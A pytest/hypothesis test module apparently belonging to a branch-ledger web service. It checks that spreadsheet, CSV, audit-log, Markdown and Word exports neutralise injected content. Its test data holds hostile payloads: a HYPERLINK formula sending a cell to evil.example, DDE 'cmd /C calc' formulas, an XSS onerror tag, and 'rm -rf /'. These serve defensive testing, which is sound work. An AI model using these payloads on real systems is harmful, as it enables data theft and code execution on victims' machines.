"""Every export a branch can download (the four ledgers as .xlsx and .csv, the audit
log as CSV), for a branch whose every name and note is something a spreadsheet
program would run: no formula cell, no CSV cell that starts one, and the Chinese
text reads back exactly as it was typed. And the summary keeps names as text too."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from datetime import date
from typing import Any

import pytest
from docx import Document
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from bench.stack import bearer
from services.demo.client import STORY_ENROLMENT, Branch
from services.embedded import create_app
from shared.spreadsheets import FORMULA_STARTS, formula_like
from tests.support.settings import embedded_settings

# What a name may be through the API (one line, trimmed), beginning with a formula.
rest = st.text(
    st.characters(min_codepoint=0x20, max_codepoint=0x7E)
    | st.characters(min_codepoint=0x4E00, max_codepoint=0x9FFF),
    max_size=20,
)
formulas = st.builds(
    lambda lead, start, text: f"{lead}{start}{text}户",
    st.sampled_from(["", '"', "'", "' "]),
    st.sampled_from(sorted(FORMULA_STARTS - {"\t", "\r"})),
    rest,
) | st.sampled_from(
    [
        '=HYPERLINK("http://evil.example/?"&A1,"点此")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1-1",
        "-2+3",
        '=cmd|"/C calc"!A0',
    ]
)


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    settings_ = embedded_settings(tmp_path_factory.mktemp("exports"))
    with TestClient(create_app(settings_), headers=bearer(settings_)) as test_client:
        yield test_client


def tell(client: TestClient, names: list[str]) -> tuple[Branch, set[str]]:
    """A branch whose every name and note is one of ``names``; the names its ledgers
    show."""
    name = iter(names * 20)
    branch = Branch(client, client).register(next(name))
    group, member, post, address = next(name), next(name), next(name), next(name)
    branch.form_group(group)
    branch.enroll(member, group, enrolled_on=STORY_ENROLMENT)
    branch.establish_post(post, "other", next(name))
    branch.assign(post, member, next(name), next(name))
    area, head, tag, purpose, shortcoming = (next(name) for _ in range(5))
    branch.register_household(address, area, head, tags=[tag])
    branch.link(address, member)
    visit = {"purpose": purpose, "notes": next(name)}
    branch.act(
        "/visits",
        {
            "member_id": branch.members[member],
            "household_id": branch.households[address],
            "visited_on": date(2009, 11, 2),
            **visit,
        },
        expected=201,
    )
    branch.act(
        "/campaigns",
        {"title": next(name), "purpose": next(name), "starts_on": date(2009, 5, 9)},
        expected=201,
    )
    branch.act(
        f"/members/{branch.members[member]}/duty-reports",
        {
            "period": "2009H2",
            "audience": "members",
            "submitted_on": date(2009, 12, 15),
            "summary": next(name),
        },
        expected=201,
    )
    branch.open_appraisal(2009, date(2009, 12, 1))
    branch.close_appraisal(2009, date(2009, 12, 20))
    branch.rate(member, 2009, "unqualified", next(name), [shortcoming])
    for path, params in (("/roster", {}), ("/coverage", {}), ("/evaluations", {"year": 2009})):
        branch.read(path, **params)  # every read model has caught up
    return branch, {group, member, post, address, area, head, tag, purpose, shortcoming}


def exported(branch: Branch, path: str, **params: Any) -> bytes:
    response = branch.queries.get(f"{branch.base}/{path}", params=params)
    assert response.status_code == 200, response.text
    return response.content


def csv_rows(content: bytes) -> list[dict[str, str]]:
    """Every row, after checking that no cell starts a formula, as it was written (the
    neutralising quote taken off)."""
    assert content.startswith("\ufeff".encode())
    table = []
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        for cell in row:
            assert cell[:1] not in FORMULA_STARTS, cell
            assert not formula_like(cell) or cell.startswith("'"), cell
        table.append([cell[1:] if formula_like(cell) else cell for cell in row])
    return [dict(zip(table[0], row, strict=True)) for row in table[1:]]


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


@settings(
    max_examples=6, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.lists(formulas, min_size=4, max_size=12, unique=True))
def test_no_export_carries_a_formula(client: TestClient, names: list[str]) -> None:
    branch, shown = tell(client, names)
    in_xlsx: set[str] = set()
    in_csv: set[str] = set()
    for ledger in ("roster", "coverage", "visits", "evaluations", "work"):
        book = load_workbook(io.BytesIO(exported(branch, f"exports/{ledger}.xlsx", year=2009)))
        sheet = book.active
        assert sheet is not None
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ledger, cell.coordinate, cell.value)
                in_xlsx.add(str(cell.value))
        for line in csv_rows(exported(branch, f"exports/{ledger}.csv", year=2009)):
            in_csv.update(line.values())
    # Each name reads back whole, in both formats: nothing lost, nothing added.
    assert shown <= in_xlsx
    assert shown <= in_csv

    audit = client.get("/v1/audit/events", params={"branch_id": branch.id, "format": "csv"})
    assert audit.status_code == 200, audit.text
    events = csv_rows(audit.content)
    assert {row["branch_id"] for row in events} == {branch.id}
    assert set(names) <= set(strings([json.loads(row["data"]) for row in events]))


def test_the_summary_keeps_names_as_text(client: TestClient) -> None:
    """In the Markdown summary a typed name is text, not a link, HTML or emphasis; in
    the Word document it is the name as typed."""
    names = [
        "[点此领取](http://evil.example/)党支部",
        "<img src=x onerror=alert(1)>党小组",
        "`rm -rf /`岗",
        "*紧急*_通知_活动|",
    ]
    branch = Branch(client, client).register(names[0])
    branch.form_group(names[1])
    branch.establish_post(names[2], "other", "=1+1")
    campaign = branch.act(
        "/campaigns", {"title": names[3], "purpose": "-", "starts_on": date(2009, 5, 9)}, 201
    )["id"]
    branch.act(
        f"/campaigns/{campaign}/outputs",
        {"metric": "alleys_cleared", "quantity": 1, "recorded_on": date(2009, 5, 9)},
        expected=201,
    )
    for path in ("/roster", "/coverage"):
        branch.read(path)
    markdown = exported(branch, "summary", year=2009).decode()
    assert re.findall(r"(?<!\\)[\[\]<>`*_|]", markdown) == []
    unescaped = re.sub(r"\\(.)", r"\1", markdown)
    document = Document(io.BytesIO(exported(branch, "summary", year=2009, format="docx")))
    text = "\n".join(p.text for p in document.paragraphs)
    for name in names:
        assert name in unescaped and name in text, name
